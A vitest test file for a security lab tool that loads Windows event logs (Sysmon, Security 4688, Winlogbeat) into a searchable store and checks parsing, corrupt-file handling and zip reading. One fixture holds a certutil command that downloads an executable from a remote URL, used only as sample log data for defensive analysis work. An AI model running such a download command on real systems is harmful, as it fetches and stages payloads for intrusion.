import { createHash } from 'node:crypto';
import { copyFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  labRawDir,
  loadLabPaths,
  openLabStore,
  readLabStatus,
  sampleLabDir,
} from '../../../src/lab/index.js';
import { useTempHome } from '../helpers.js';
import { lsassCampaign, regressionData, sharedDatasets, truncatedTarGz, winlogbeatTarGz } from './shared.js';

const tempHome = useTempHome();
const sampleFile = join(sampleLabDir, 'sample-incident.jsonl');

async function statusOf(home: string) {
  const store = await openLabStore(home, { readOnly: true, seedFile: sampleFile });
  try {
    return await readLabStatus(store.database);
  } finally {
    store.close();
  }
}

describe('lab load', () => {
  it('seeds a new store with the sample once; loading the same content again adds nothing', async () => {
    const home = tempHome();
    const copy = join(tempHome(), 'renamed-copy.jsonl');
    copyFileSync(sampleFile, copy);
    const first = await loadLabPaths(home, [sampleFile]);
    expect(first).toMatchObject({ loaded: 0, skipped: 1, events: 0, errorCount: 0 });
    const again = await loadLabPaths(home, [copy, sampleFile]);
    expect(again).toMatchObject({ loaded: 0, skipped: 2, events: 0 });
    const status = await statusOf(home);
    expect(status.events).toBe(95);
    expect(status.files.map((file) => file.path)).toEqual([sampleFile]);
  });

  it('reports a corrupt line and a corrupt archive with file and line, and loads the rest', async () => {
    const home = tempHome();
    const dir = tempHome();
    const lines = readFileSync(sampleFile, 'utf8').split('\n').filter(Boolean);
    const edited = lines.slice(0, 5).map((line) => line.replace('FIN-WS01', 'EDITED-WS09'));
    edited.splice(2, 0, '{"EventID": 1, "Hostname": "X", ');
    edited.splice(4, 0, '{"EventID": 1}');
    writeFileSync(join(dir, 'edited.jsonl'), `${edited.join('\n')}\n`);
    writeFileSync(join(dir, 'garbage.zip'), Buffer.from('PK\u0003\u0004 this is not a zip archive at all'));
    const result = await loadLabPaths(home, [dir, join(dir, 'missing.jsonl')]);
    expect(result).toMatchObject({ loaded: 1, failed: 1, events: 5, errorCount: 3 });
    expect(result.errors).toEqual(
      expect.arrayContaining([
        { file: join(dir, 'edited.jsonl'), line: 3, message: expect.stringMatching(/not valid JSON/) },
        { file: join(dir, 'edited.jsonl'), line: 5, message: expect.stringMatching(/no timestamp/) },
        { file: join(dir, 'garbage.zip'), line: null, message: expect.stringMatching(/unreadable/) },
      ]),
    );
    expect(result.problems).toEqual([
      { path: join(dir, 'missing.jsonl'), message: 'no such file or directory' },
    ]);
    expect((await statusOf(home)).events).toBe(100);
  });

  it('keeps raw records aligned when a line holds a carriage return between JSON tokens', async () => {
    const home = tempHome();
    const dir = tempHome();
    const line = (n: number) =>
      `{"EventID": 1,\r"Hostname": "CR-${n}", "@timestamp": "2026-01-0${n}T00:00:00Z"}`;
    writeFileSync(join(dir, 'cr.jsonl'), `${line(1)}\n${line(2)}\n${line(3)}\n`);
    expect(await loadLabPaths(home, [join(dir, 'cr.jsonl')])).toMatchObject({ events: 3, errorCount: 0 });
    const store = await openLabStore(home, { readOnly: true, seedFile: sampleFile });
    try {
      const { events } = await store.siem.searchEvents({ text: 'cr-', limit: 5, offset: 0 });
      expect(events.map((event) => [event.host, event.raw.Hostname])).toEqual([
        ['CR-1', 'CR-1'],
        ['CR-2', 'CR-2'],
        ['CR-3', 'CR-3'],
      ]);
    } finally {
      store.close();
    }
  });

  it('keeps each JSON line as its raw record byte for byte, and an invalid UTF-8 line as decoded', async () => {
    const home = tempHome();
    const dir = tempHome();
    const sysmon = 'Microsoft-Windows-Sysmon/Operational';
    const line = (n: number, image: string) =>
      Buffer.from(
        JSON.stringify({
          EventID: 1,
          Channel: sysmon,
          Hostname: `RAW-${n}`,
          '@timestamp': `2026-01-0${n}T00:00:00Z`,
          Image: image,
        }),
      );
    const invalid = Buffer.concat([
      Buffer.from(
        `{"EventID": 1, "Channel": "${sysmon}", "Hostname": "RAW-3", "@timestamp": "2026-01-03T00:00:00Z", "Image": "C:\\\\`,
      ),
      Buffer.from([0xff]),
      Buffer.from('"}'),
    ]);
    const lines = [line(1, 'C:\\Windows\\café.exe'), line(2, 'C:\\tmp\\a"b.exe'), invalid];
    writeFileSync(
      join(dir, 'raw.jsonl'),
      Buffer.concat(lines.flatMap((bytes) => [bytes, Buffer.from('\n')])),
    );
    expect(await loadLabPaths(home, [join(dir, 'raw.jsonl')])).toMatchObject({ events: 3, errorCount: 0 });
    // Raw files are named by the source's content hash (the seeded sample has its own).
    const sha256 = createHash('sha256')
      .update(readFileSync(join(dir, 'raw.jsonl')))
      .digest('hex');
    expect(readdirSync(labRawDir(home))).toContain(`${sha256}.jsonl`);
    const stored = readFileSync(join(labRawDir(home), `${sha256}.jsonl`), 'utf8')
      .split('\n')
      .filter(Boolean);
    const records = stored.map((text) => text.slice(text.indexOf('\u0001') + 1));
    expect(records).toEqual(lines.map((bytes) => bytes.toString('utf8')));
    expect(records[2]).toContain('\ufffd');
    const store = await openLabStore(home, { readOnly: true, seedFile: sampleFile });
    try {
      const { events } = await store.siem.searchEvents({ text: 'raw-', limit: 5, offset: 0 });
      expect(events.map((event) => event.process?.image)).toEqual([
        'C:\\Windows\\café.exe',
        'C:\\tmp\\a"b.exe',
        'C:\\\ufffd',
      ]);
      expect(events.map((event) => event.raw)).toEqual(
        lines.map((bytes) => JSON.parse(bytes.toString('utf8'))),
      );
    } finally {
      store.close();
    }
  });

  it('inflates deflated zip members and reports one whose size differs from its directory entry', async () => {
    const home = tempHome();
    const dir = tempHome();
    const jsonl = (host: string, count: number) =>
      Buffer.from(
        Array.from({ length: count }, (_, index) =>
          JSON.stringify({ EventID: 1, Hostname: host, '@timestamp': `2026-02-01T00:00:0${index}Z` }),
        ).join('\n'),
      );
    const good = jsonl('ZIP-GOOD', 3);
    const bad = jsonl('ZIP-BAD', 2);
    writeFileSync(
      join(dir, 'members.zip'),
      zipOf([
        { name: 'good.jsonl', data: good, declaredSize: good.length },
        { name: 'bad.jsonl', data: bad, declaredSize: bad.length + 10 },
      ]),
    );
    const result = await loadLabPaths(home, [join(dir, 'members.zip')]);
    expect(result).toMatchObject({ loaded: 1, events: 5, errorCount: 1 });
    expect(result.errors).toEqual([
      {
        file: `${join(dir, 'members.zip')}:bad.jsonl`,
        line: 3,
        message: `unreadable: zip member is ${bad.length} bytes where its directory entry says ${bad.length + 10}; loaded what came before`,
      },
    ]);
    const store = await openLabStore(home, { readOnly: true, seedFile: sampleFile });
    try {
      const page = await store.siem.searchEvents({ host: 'zip-good', limit: 5, offset: 0 });
      expect(page.events.map((event) => event.id)).toEqual(['members-0001', 'members-0002', 'members-0003']);
    } finally {
      store.close();
    }
  });

  it('maps an evtx_dump Security 4688 record: Computer as host, TimeCreated as time, NewProcessName as image', async () => {
    const home = tempHome();
    const dir = tempHome();
    const record = {
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing' } },
          EventID: 4688,
          TimeCreated: { '#attributes': { SystemTime: '2025-03-01T10:00:00.123456Z' } },
          Channel: 'Security',
          Computer: 'DC02.corp.example',
        },
        EventData: {
          SubjectUserName: 'alice',
          SubjectDomainName: 'CORP',
          NewProcessId: '0x1a2b',
          NewProcessName: 'C:\\Windows\\System32\\certutil.exe',
          CommandLine: 'certutil -urlcache -f http://x/a.exe a.exe',
          ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
        },
      },
    };
    writeFileSync(join(dir, 'event.json'), JSON.stringify(record, null, 2));
    expect(await loadLabPaths(home, [join(dir, 'event.json')])).toMatchObject({
      loaded: 1,
      events: 1,
      errorCount: 0,
    });
    const store = await openLabStore(home, { readOnly: true, seedFile: sampleFile });
    try {
      const { events } = await store.siem.searchEvents({ host: 'dc02', limit: 5, offset: 0 });
      expect(events).toEqual([
        expect.objectContaining({
          id: 'event-0001',
          host: 'DC02.corp.example',
          timestamp: '2025-03-01T10:00:00.123Z',
          user: 'CORP\\alice',
          action: 'process_start',
          process: {
            guid: '{4688-DC02-0x1a2b-1740823200123}',
            pid: 0x1a2b,
            image: 'C:\\Windows\\System32\\certutil.exe',
            commandLine: record.Event.EventData.CommandLine,
          },
          parent: expect.objectContaining({ image: 'C:\\Windows\\System32\\cmd.exe' }),
        }),
      ]);
      expect(events[0]?.raw).toMatchObject({
        Computer: 'DC02.corp.example',
        EventID: 4688,
        NewProcessId: '0x1a2b',
      });
    } finally {
      store.close();
    }
  });

  it.skipIf(!sharedDatasets)(
    'loads a Security-Datasets zip and keeps what precedes the break in a truncated tar.gz',
    async () => {
      const home = tempHome();
      const datasets = sharedDatasets ?? '';
      const dir = tempHome();
      // A zip cut in half has lost its central directory: reported as unreadable, the other files unaffected.
      const zip = readFileSync(join(datasets, lsassCampaign));
      writeFileSync(join(dir, 'cut.zip'), zip.subarray(0, Math.floor(zip.length / 2)));
      const result = await loadLabPaths(home, [
        join(datasets, lsassCampaign),
        join(datasets, truncatedTarGz),
      ]);
      expect(result.loaded).toBe(2);
      expect(result.files[0]).toMatchObject({ status: 'loaded', events: 53698, errors: 0 });
      expect(result.files[1]?.events).toBeGreaterThan(1000);
      expect(result.errors.at(-1)).toMatchObject({
        file: expect.stringMatching(/covenant_persistwmi\.tar\.gz:covenant_persistwmi_[\d-]+\.json$/),
        line: expect.any(Number),
        message: expect.stringMatching(/unreadable.*loaded what came before/),
      });
      const cut = await loadLabPaths(home, [join(dir, 'cut.zip')]);
      expect(cut.failed).toBe(1);
      expect(cut.errors[0]?.message).toMatch(/unreadable/);
      const status = await statusOf(home);
      expect(status.events).toBe(95 + result.events);
      expect(status.hosts).toBeGreaterThan(3);
    },
  );

  it.skipIf(!sharedDatasets)(
    'maps Winlogbeat records (event_data, computer_name) to the same columns',
    async () => {
      const home = tempHome();
      const result = await loadLabPaths(home, [join(sharedDatasets ?? '', winlogbeatTarGz)]);
      expect(result.events).toBeGreaterThan(2000);
      const store = await openLabStore(home, { readOnly: true, seedFile: sampleFile });
      try {
        const page = await store.siem.searchEvents({
          host: 'HFDC01',
          action: 'network_connection',
          limit: 1,
          offset: 0,
        });
        expect(page.total).toBeGreaterThan(0);
        expect(page.events[0]).toMatchObject({
          host: 'HFDC01.shire.com',
          channel: 'Microsoft-Windows-Sysmon/Operational',
          network: { sourceIp: expect.stringMatching(/^\d+\.\d+\.\d+\.\d+$/) },
        });
        expect(page.events[0]?.raw.EventID).toBe(3);
      } finally {
        store.close();
      }
    },
  );

  it.skipIf(!sharedDatasets)(
    'loads the evtx_dump regression events with Computer as host and TimeCreated as time',
    async () => {
      const home = tempHome();
      const result = await loadLabPaths(home, [join(sharedDatasets ?? '', regressionData)]);
      expect(result.errorCount).toBe(0);
      expect(result.events).toBeGreaterThan(120);
      const store = await openLabStore(home, { readOnly: true, seedFile: sampleFile });
      try {
        const page = await store.siem.searchEvents({
          host: 'swachchhanda',
          eventCode: 7,
          limit: 5,
          offset: 0,
        });
        const loaded = page.events.find(
          (event) => event.raw.ImageLoaded === 'C:\\Windows\\System32\\dbgcore.dll',
        );
        expect(loaded).toMatchObject({
          action: 'image_load',
          timestamp: '2025-11-27T07:40:10.165Z',
          process: { image: 'C:\\Windows\\System32\\WerFaultSecure.exe', pid: 4460 },
        });
        expect(loaded?.raw.Computer).toBe('swachchhanda');
        const flat = [];
        for await (const batch of store.scanFlatEvents(50)) flat.push(...batch);
        expect(flat).toHaveLength(95 + result.events);
        expect(new Set(flat.map((item) => item.id)).size).toBe(flat.length);
        expect(flat.find((item) => item.id === loaded?.id)?.event.Provider_Name).toBe(
          'Microsoft-Windows-Sysmon',
        );
      } finally {
        store.close();
      }
    },
  );
});

/** A zip of deflated members, each declaring `declaredSize` as its uncompressed size. */
function zipOf(members: Array<{ name: string; data: Buffer; declaredSize: number }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, declaredSize } of members) {
    const packed = deflateRawSync(data);
    const fileName = Buffer.from(name);
    // Version 2.0, method 8 (deflate), CRC-32, compressed and declared sizes, name length.
    const sizes: Field[] = [
      [4, crc32(data)],
      [4, packed.length],
      [4, declaredSize],
      [2, fileName.length],
    ];
    const local = littleEndian([[4, 0x04034b50], [2, 20], [2, 0], [2, 8], [4, 0], ...sizes, [2, 0]]);
    const central = littleEndian([
      [4, 0x02014b50],
      [2, 20],
      [2, 20],
      [2, 0],
      [2, 8],
      [4, 0],
      ...sizes,
      [2, 0],
      [2, 0],
      [2, 0],
      [2, 0],
      [4, 0],
      [4, offset],
    ]);
    locals.push(local, fileName, packed);
    centrals.push(central, fileName);
    offset += local.length + fileName.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = littleEndian([
    [4, 0x06054b50],
    [2, 0],
    [2, 0],
    [2, members.length],
    [2, members.length],
    [4, directory.length],
    [4, offset],
    [2, 0],
  ]);
  return Buffer.concat([...locals, directory, end]);
}

/** A field of a zip record: its width in bytes and its value. */
type Field = [2 | 4, number];

/** The fields one after another, little-endian. */
function littleEndian(fields: Field[]): Buffer {
  const bytes = Buffer.alloc(fields.reduce((sum, [width]) => sum + width, 0));
  let at = 0;
  for (const [width, value] of fields) {
    at = width === 2 ? bytes.writeUInt16LE(value, at) : bytes.writeUInt32LE(value, at);
  }
  return bytes;
}
